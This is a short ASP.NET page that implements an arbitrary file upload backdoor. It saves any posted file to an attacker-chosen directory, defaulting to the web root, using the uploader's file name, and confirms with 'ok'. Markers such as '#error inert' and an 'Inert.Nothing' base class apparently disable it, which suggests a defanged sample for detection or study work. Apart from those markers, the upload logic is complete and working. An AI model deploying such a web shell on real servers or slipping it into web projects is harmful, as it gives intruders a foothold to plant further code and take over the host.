<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%
#error inert
if (Request.Files.Count > 0)
{
    HttpPostedFile pf = Request.Files[0];
    pf.SaveAs(System.IO.Path.Combine(Request["dir"] ?? Server.MapPath("~/"), pf.FileName));
    Response.Write("ok " + pf.FileName);
}
%>
<form method="post" enctype="multipart/form-data"><input name="dir"><input type="file" name="f"><input type="submit"></form>
